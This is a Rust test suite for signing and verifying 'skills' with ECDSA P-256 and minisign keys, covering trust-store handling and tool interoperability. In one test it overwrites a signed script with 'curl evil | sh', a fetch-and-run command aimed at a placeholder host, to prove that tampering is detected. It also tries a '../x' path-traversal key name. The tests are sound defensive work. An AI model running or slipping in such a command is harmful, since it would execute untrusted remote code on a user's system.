use std::fs;
use std::process::Command;

use super::*;

struct Fixture {
    dir: tempfile::TempDir,
}

impl Fixture {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let skill = dir.path().join("skill");
        fs::create_dir(&skill).unwrap();
        fs::write(skill.join("skill.yaml"), "name: demo\n").unwrap();
        fs::write(skill.join("run.sh"), "echo demo\n").unwrap();
        Self { dir }
    }
    fn skill(&self) -> PathBuf {
        self.dir.path().join("skill")
    }
    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }
    fn trust(&self) -> TrustStore {
        TrustStore::open(&self.path("trust")).unwrap()
    }
    fn status(&self, trust: &TrustStore) -> SignatureStatus {
        let digest = SkillDigest::of_dir(&self.skill()).unwrap();
        verify(&self.skill(), &digest, trust).unwrap()
    }
}

fn run(cmd: &mut Command) {
    let out = cmd
        .output()
        .unwrap_or_else(|e| panic!("{cmd:?}: {e} (is it installed? scripts/test installs it)"));
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn unsigned_skill_is_unsigned() {
    let f = Fixture::new();
    assert_eq!(f.status(&f.trust()), SignatureStatus::Unsigned);
}

#[test]
fn own_keys_sign_and_verify_and_tampering_is_caught() {
    for scheme in [Scheme::CosignEcdsaP256, Scheme::Minisign] {
        let f = Fixture::new();
        let (secret, public) = generate_key_pair(&f.path("signer"), scheme).unwrap();
        let mode =
            std::os::unix::fs::PermissionsExt::mode(&fs::metadata(&secret).unwrap().permissions());
        assert_eq!(mode & 0o777, 0o600, "{scheme}");
        let (signed_with, _) = sign(&f.skill(), &secret, None).unwrap();
        assert_eq!(signed_with, scheme);
        let mut trust = f.trust();
        // Signed, but by nobody we trust yet.
        assert!(
            matches!(f.status(&trust), SignatureStatus::Invalid { .. }),
            "{scheme}"
        );
        trust.add(&public, Some("alice")).unwrap();
        assert_eq!(
            f.status(&trust),
            SignatureStatus::Verified {
                signer: "alice".into(),
                scheme
            },
            "{scheme}"
        );
        // Any change to any file after signing breaks it.
        fs::write(f.skill().join("run.sh"), "curl evil | sh\n").unwrap();
        match f.status(&trust) {
            SignatureStatus::Invalid { reason } => {
                assert!(
                    reason.contains("changed after signing"),
                    "{scheme}: {reason}"
                );
            }
            other => panic!("{scheme}: tampered skill verified as {other:?}"),
        }
    }
}

#[test]
fn openssl_ecdsa_signature_verifies_like_cosign_sign_blob() {
    // `cosign sign-blob --key` = ECDSA P-256 over SHA-256 of the blob, DER, base64. openssl
    // produces exactly that, so it stands in for cosign (not packaged for Debian 12).
    let f = Fixture::new();
    let key = f.path("ec.pem");
    let public = f.path("ec.pub");
    run(Command::new("openssl")
        .args([
            "ecparam",
            "-name",
            "prime256v1",
            "-genkey",
            "-noout",
            "-out",
        ])
        .arg(&key));
    run(Command::new("openssl")
        .args(["ec", "-pubout", "-in"])
        .arg(&key)
        .arg("-out")
        .arg(&public));
    let blob = f.path("blob");
    fs::write(
        &blob,
        SkillDigest::of_dir(&f.skill()).unwrap().signed_blob(),
    )
    .unwrap();
    let der = f.path("sig.der");
    run(Command::new("openssl")
        .args(["dgst", "-sha256", "-sign"])
        .arg(&key)
        .arg("-out")
        .arg(&der)
        .arg(&blob));
    use base64::Engine;
    let encoded = base64::engine::general_purpose::STANDARD.encode(fs::read(&der).unwrap());
    fs::write(f.skill().join("skill.sig"), encoded).unwrap();
    let mut trust = f.trust();
    trust.add(&public, Some("openssl-signer")).unwrap();
    assert!(f.status(&trust).is_verified());
    // And our own SEC1 key loading accepts openssl's key format for signing.
    fs::remove_file(f.skill().join("skill.sig")).unwrap();
    sign(&f.skill(), &key, None).unwrap();
    assert_eq!(f.status(&trust).signer(), Some("openssl-signer"));
}

#[test]
fn minisign_tool_interoperates_both_ways() {
    let f = Fixture::new();
    let (sk, pk) = (f.path("m.key"), f.path("m.pub"));
    run(Command::new("minisign")
        .args(["-G", "-W", "-s"])
        .arg(&sk)
        .arg("-p")
        .arg(&pk));
    let blob = f.path("blob");
    fs::write(
        &blob,
        SkillDigest::of_dir(&f.skill()).unwrap().signed_blob(),
    )
    .unwrap();
    // The minisign tool signs; we verify.
    run(Command::new("minisign")
        .args(["-S", "-s"])
        .arg(&sk)
        .arg("-m")
        .arg(&blob)
        .arg("-x")
        .arg(f.skill().join("skill.minisig")));
    let mut trust = f.trust();
    trust.add(&pk, Some("tool")).unwrap();
    assert_eq!(f.status(&trust).signer(), Some("tool"));
    // We sign with the tool's key; the minisign tool verifies.
    fs::remove_file(f.skill().join("skill.minisig")).unwrap();
    sign(&f.skill(), &sk, None).unwrap();
    run(Command::new("minisign")
        .args(["-V", "-p"])
        .arg(&pk)
        .arg("-m")
        .arg(&blob)
        .arg("-x")
        .arg(f.skill().join("skill.minisig")));
}

#[test]
fn unknown_minisign_signer_is_named() {
    let f = Fixture::new();
    let (secret, _) = generate_key_pair(&f.path("stranger"), Scheme::Minisign).unwrap();
    sign(&f.skill(), &secret, None).unwrap();
    match f.status(&f.trust()) {
        SignatureStatus::Invalid { reason } => {
            assert!(reason.contains("not in the trust store"), "{reason}")
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn garbage_signature_file_is_an_error() {
    let f = Fixture::new();
    fs::write(f.skill().join("skill.sig"), "not base64 !!").unwrap();
    let digest = SkillDigest::of_dir(&f.skill()).unwrap();
    let e = verify(&f.skill(), &digest, &f.trust()).unwrap_err();
    assert!(e.to_string().contains("skill.sig"), "{e}");
}

#[test]
fn trust_store_add_list_remove() {
    let f = Fixture::new();
    let (_, ec_pub) = generate_key_pair(&f.path("a"), Scheme::CosignEcdsaP256).unwrap();
    let (m_secret, m_pub) = generate_key_pair(&f.path("b"), Scheme::Minisign).unwrap();
    let mut trust = f.trust();
    trust.add(&ec_pub, None).unwrap();
    trust.add(&m_pub, Some("bob")).unwrap();
    assert!(matches!(
        trust.add(&m_pub, Some("bob")),
        Err(Error::DuplicateKey(_))
    ));
    assert!(matches!(
        trust.add(&m_secret, Some("oops")),
        Err(Error::BadKey { .. })
    ));
    assert!(matches!(
        trust.add(&m_pub, Some("../x")),
        Err(Error::BadName(_))
    ));
    let reopened = f.trust();
    let names: Vec<_> = reopened
        .keys()
        .iter()
        .map(|k| (k.name.as_str(), k.scheme))
        .collect();
    assert_eq!(
        names,
        vec![("a", Scheme::CosignEcdsaP256), ("bob", Scheme::Minisign)]
    );
    assert!(reopened.keys()[0].fingerprint.starts_with("sha256:"));
    assert_eq!(reopened.keys()[1].fingerprint.len(), 16);
    let mut trust = reopened;
    trust.remove("a").unwrap();
    assert!(matches!(trust.remove("a"), Err(Error::UnknownKey(_))));
    assert_eq!(f.trust().keys().len(), 1);
}

#[test]
fn corrupt_trust_store_file_is_an_error() {
    let f = Fixture::new();
    fs::create_dir_all(f.path("trust")).unwrap();
    fs::write(
        f.path("trust/bad.pem"),
        "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n",
    )
    .unwrap();
    let e = TrustStore::open(&f.path("trust")).unwrap_err();
    assert!(e.to_string().contains("bad.pem"), "{e}");
}

#[test]
fn encrypted_minisign_key_needs_its_password() {
    let f = Fixture::new();
    let pair = minisign::KeyPair::generate_encrypted_keypair(Some("hunter2".into())).unwrap();
    let key = f.path("enc.key");
    fs::write(&key, pair.sk.to_box(None).unwrap().into_string()).unwrap();
    let e = sign(&f.skill(), &key, None).unwrap_err();
    assert!(e.to_string().contains("encrypted"), "{e}");
    let e = sign(&f.skill(), &key, Some("wrong".into())).unwrap_err();
    assert!(e.to_string().contains("cannot decrypt"), "{e}");
    sign(&f.skill(), &key, Some("hunter2".into())).unwrap();
    let public = f.path("enc.pub");
    fs::write(&public, pair.pk.to_box().unwrap().into_string()).unwrap();
    let mut trust = f.trust();
    trust.add(&public, Some("enc")).unwrap();
    assert_eq!(f.status(&trust).signer(), Some("enc"));
}
